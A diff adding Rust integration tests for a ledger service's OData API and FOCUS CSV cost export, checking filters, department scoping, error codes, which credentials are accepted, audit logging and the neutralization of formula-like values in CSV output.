+    assert_eq!(count("startswith(tolower(Department),'res') and EndEstimated eq false").await, 4);
+    assert_eq!(count("Start lt 2026-09-15T00:00:00%2B02:00").await, 1);
+
+    // -- the other sets
+    let (tenants, _) = all_pages(&env, "/odata/Tenants?$orderby=Name", &h).await;
+    assert_eq!(
+        tenants.iter().map(|t| t["Name"].as_str().unwrap()).collect::<BTreeSet<_>>(),
+        BTreeSet::from([EVIL_TENANT, OPS_TENANT, "alpha"])
+    );
+    let (departments, _) = all_pages(&env, "/odata/Departments", &h).await;
+    assert_eq!(departments.len(), 2);
+    let (periods, _) = all_pages(&env, "/odata/Periods", &h).await;
+    let sept = periods.iter().find(|p| p["Period"] == "2026-09").expect("September");
+    assert_eq!((sept["State"].as_str(), sept["LineCount"].as_i64()), (Some("closed"), Some(db.len() as i64)));
+    assert!(sept["ContentHash"].is_string());
+    assert!(periods.iter().any(|p| p["Period"] == "2026-10" && p["State"] == "open"));
+    let (usage, _) = all_pages(&env, "/odata/Usage?$filter=InputTokens%20gt%20100", &h).await;
+    assert_eq!(usage.len(), 1);
+    assert_eq!(usage[0]["InputTokens"], 1000);
+    let (disputes, _) = all_pages(&env, "/odata/Disputes", &h).await;
+    assert_eq!(disputes[0]["Reason"], EVIL_REASON, "JSON needs no neutralizing");
+
+    // -- a department-scoped token: its departments only, no organization-wide hashes
+    let p = basic(&env.export_platform);
+    let (lines, _) = all_pages(&env, "/odata/LedgerLines", &p).await;
+    assert!(!lines.is_empty() && lines.iter().all(|l| l["Department"] == "Platform"));
+    let (allocs, _) = all_pages(&env, "/odata/Allocations", &p).await;
+    assert_eq!(allocs.len(), 1);
+    let (periods, _) = all_pages(&env, "/odata/Periods?$filter=Period%20eq%20'2026-09'", &p).await;
+    assert!(periods[0]["ContentHash"].is_null());
+    assert_eq!(periods[0]["LineCount"].as_i64().unwrap() as usize, lines.len());
+    let (tenants, _) = all_pages(&env, "/odata/Tenants", &p).await;
+    assert_eq!(tenants.len(), 1);
+
+    // -- errors are OData errors, and nothing unsupported is ignored
+    for (uri, status, code) in [
+        ("/odata/LedgerLines?$expand=Tenant", 501, "NotImplemented"),
+        ("/odata/LedgerLines?$search=x", 501, "NotImplemented"),
+        ("/odata/LedgerLines?$filter=Amount%20add%201%20gt%200", 501, "NotImplemented"),
+        ("/odata/LedgerLines?$filter=substringof('a',Tenant)", 501, "NotImplemented"),
+        ("/odata/LedgerLines?$filter=Nope%20eq%201", 400, "BadRequest"),
+        ("/odata/LedgerLines?$filter=Amount%20eq%20'x'", 400, "BadRequest"),
+        ("/odata/LedgerLines?$orderby=Nope", 400, "BadRequest"),
+        ("/odata/LedgerLines?$select=Nope", 400, "BadRequest"),
+        ("/odata/LedgerLines?$bogus=1", 400, "BadRequest"),
+        ("/odata/LedgerLines?$skiptoken=zzz", 400, "BadRequest"),
+        ("/odata/Nothing", 404, "NotFound"),
+    ] {
+        let a = send(&env, "GET", uri, &h, None).await;
+        assert_eq!(a.status.as_u16(), status, "{uri}: {}", a.text());
+        assert_eq!(a.json()["error"]["code"], code, "{uri}");
+        assert_eq!(a.header("odata-version"), "4.0");
+    }
+
+    // -- credentials: Basic, Bearer, an API key (query or header); never the session cookie
+    let key = format!("/odata/LedgerLines?$top=1&api_key={}", env.export);
+    assert_eq!(send(&env, "GET", &key, &[], None).await.status, 200);
+    assert_eq!(send(&env, "GET", &format!("/odata/$metadata?ApiKeyName={}", env.export), &[], None).await.status, 200);
+    assert_eq!(
+        send(&env, "GET", "/odata/LedgerLines?$top=1", &[("x-api-key", env.export.clone())], None).await.status,
+        200
+    );
+    assert_eq!(send(&env, "GET", "/odata/LedgerLines?$top=1", &bearer(&env.export), None).await.status, 200);
+    let a = send(&env, "GET", "/odata/LedgerLines?$top=1&api_key=glt_nope", &[], None).await;
+    assert_eq!(a.status, 401);
+    assert!(a.header("www-authenticate").starts_with("Basic"), "Power BI is offered Basic");
+    let cookie = [("cookie", format!("gl_session={}", env.cookie))];
+    assert_eq!(
+        send(&env, "GET", "/api/v1/ledger?period=2026-09", &cookie, None).await.status,
+        200,
+        "the session is live"
+    );
+    for uri in ["/odata/", "/odata/$metadata", "/odata/LedgerLines", "/odata/Tenants/$count"] {
+        let a = send(&env, "GET", uri, &cookie, None).await;
+        assert_eq!(a.status, 401, "{uri} with the portal's cookie: {}", a.text());
+    }
+    assert_eq!(send(&env, "GET", "/odata/LedgerLines", &bearer(&env.agent), None).await.status, 403);
+
+    // -- the first page of a read is audited, the continuations are not
+    let n: i64 = sqlx::query_scalar("SELECT count(*) FROM audit_log WHERE org_id = $1 AND action = 'export.odata'")
+        .bind(env.org)
+        .fetch_one(&env.su)
+        .await
+        .unwrap();
+    assert!(n > 10, "{n}");
+}
+
+// ---------------------------------------------------------------- FOCUS
+
+/// FOCUS 1.2's columns, from the specification (specification/columns at tag v1.2).
+const FOCUS_1_2: [&str; 57] = [
+    "AvailabilityZone",
+    "BilledCost",
+    "BillingAccountId",
+    "BillingAccountName",
+    "BillingAccountType",
+    "BillingCurrency",
+    "BillingPeriodEnd",
+    "BillingPeriodStart",
+    "CapacityReservationId",
+    "CapacityReservationStatus",
+    "ChargeCategory",
+    "ChargeClass",
+    "ChargeDescription",
+    "ChargeFrequency",
+    "ChargePeriodEnd",
+    "ChargePeriodStart",
+    "CommitmentDiscountCategory",
+    "CommitmentDiscountId",
+    "CommitmentDiscountName",
+    "CommitmentDiscountQuantity",
+    "CommitmentDiscountStatus",
+    "CommitmentDiscountType",
+    "CommitmentDiscountUnit",
+    "ConsumedQuantity",
+    "ConsumedUnit",
+    "ContractedCost",
+    "ContractedUnitPrice",
+    "EffectiveCost",
+    "InvoiceId",
+    "InvoiceIssuerName",
+    "ListCost",
+    "ListUnitPrice",
+    "PricingCategory",
+    "PricingCurrency",
+    "PricingCurrencyContractedUnitPrice",
+    "PricingCurrencyEffectiveCost",
+    "PricingCurrencyListUnitPrice",
+    "PricingQuantity",
+    "PricingUnit",
+    "ProviderName",
+    "PublisherName",
+    "RegionId",
+    "RegionName",
+    "ResourceId",
+    "ResourceName",
+    "ResourceType",
+    "ServiceCategory",
+    "ServiceName",
+    "ServiceSubcategory",
+    "SkuId",
+    "SkuMeter",
+    "SkuPriceDetails",
+    "SkuPriceId",
+    "SubAccountId",
+    "SubAccountName",
+    "SubAccountType",
+    "Tags",
+];
+
+#[tokio::test]
+async fn focus_export_versions_categories_and_corrections() {
+    let env = env().await;
+    // -- the default is 1.2: exactly its columns, then x_ columns
+    let (header, rows) = csv_of(&get(&env, "/api/v1/exports/focus.csv?period=2026-10", &env.export).await);
+    let spec: Vec<&str> = header.iter().map(String::as_str).filter(|c| !c.starts_with("x_")).collect();
+    assert_eq!(spec, FOCUS_1_2);
+    for x in ["x_Confidence", "x_GpuClass", "x_Term"] {
+        assert!(header.contains(&x.to_string()), "{x}");
+    }
+    let ledger = get(&env, "/api/v1/ledger?period=2026-10", &env.export).await.json();
+    let lines = ledger["lines"].as_array().unwrap();
+    assert_eq!(rows.len(), lines.len());
+    let total: i64 = lines.iter().map(|l| cents(l["amount"].as_str().unwrap())).sum();
+    for c in ["BilledCost", "EffectiveCost", "ListCost", "ContractedCost"] {
+        assert_eq!(rows.iter().map(|r| cents(&r[c])).sum::<i64>(), total, "{c}");
+    }
+    let categories: BTreeSet<&str> = rows.iter().map(|r| r["ChargeCategory"].as_str()).collect();
+    assert_eq!(categories, BTreeSet::from(["Adjustment", "Credit", "Usage"]));
+    let correction = rows.iter().find(|r| r["ChargeCategory"] == "Adjustment").unwrap();
+    assert_eq!(correction["ChargeClass"], "Correction");
+    assert_eq!(
+        (correction["ChargePeriodStart"].as_str(), correction["ChargePeriodEnd"].as_str()),
+        ("2026-09-01T00:00:00Z", "2026-10-01T00:00:00Z"),
+        "a correction is charged to the month it corrects"
+    );
+    assert_eq!(correction["BillingPeriodStart"], "2026-10-01T00:00:00Z");
+    let credit = rows.iter().find(|r| r["ChargeCategory"] == "Credit").unwrap();
+    assert_eq!((credit["BilledCost"].as_str(), credit["ChargeClass"].as_str()), ("-5.00", ""));
+    assert!(rows.iter().filter(|r| r["ChargeCategory"] != "Adjustment").all(|r| r["ChargeClass"].is_empty()));
+    let borrowed = rows.iter().find(|r| r["x_Term"] == "borrowed").unwrap();
+    assert_eq!((borrowed["ConsumedUnit"].as_str(), borrowed["ConsumedQuantity"].as_str()), ("GPU-Hours", "4.000000"));
+    assert_eq!((borrowed["x_GpuClass"].as_str(), borrowed["x_Confidence"].as_str()), ("H100-80GB", "exact"));
+    assert!(rows.iter().all(|r| r["InvoiceId"].is_empty()), "an open month has no invoice");
+    for r in &rows {
+        let tags: Value = serde_json::from_str(&r["Tags"]).unwrap();
+        assert!(tags.is_object());
+        for (k, v) in r {
+            let number = v.parse::<f64>().is_ok();
+            assert!(number || !v.starts_with(FORMULA_START), "{k} = {v:?}");
+        }
+    }
+    assert!(rows.iter().any(|r| r["SubAccountName"] == format!("'{EVIL_TENANT}")), "neutralized in FOCUS too");
+
+    // -- 1.0 on request: its 43 columns (and the validator's four pre-1.0 spellings); closed months have invoices
+    let (header, rows) = csv_of(&get(&env, "/api/v1/exports/focus.csv?period=2026-09&version=1.0", &env.export).await);
+    for c in [
+        "InvoiceIssuerName",
+        "ProviderName",
+        "PublisherName",
+        "ResourceId",
+        "InvoiceIssuer",
+        "Provider",
+        "Publisher",
+        "ResourceID",
+        "Tags",
+    ] {
+        assert!(header.contains(&c.to_string()), "{c}");
+    }
+    for c in ["BillingAccountType", "InvoiceId", "ServiceSubcategory", "SkuMeter"] {
+        assert!(!header.contains(&c.to_string()), "{c} is not in FOCUS 1.0");
+    }
+    assert_eq!(header.iter().filter(|c| !c.starts_with("x_")).count(), 43 + 4);
+    assert!(rows.iter().all(|r| r["ChargeCategory"] == "Usage" && r["BillingPeriodEnd"] == "2026-10-01T00:00:00Z"));
+    let (_, v12) = csv_of(&get(&env, "/api/v1/exports/focus.csv?period=2026-09", &env.export).await);
+    assert!(v12.iter().all(|r| r["InvoiceId"] == "acme-2026-09"));
+    // department scope applies
+    let (_, scoped) = csv_of(&get(&env, "/api/v1/exports/focus.csv?period=2026-09", &env.export_platform).await);
+    assert!(!scoped.is_empty() && scoped.iter().all(|r| r["x_Department"] == "Platform"));
+    assert_eq!(get(&env, "/api/v1/exports/focus.csv?period=2026-09&version=0.5", &env.export).await.status, 422);
+}
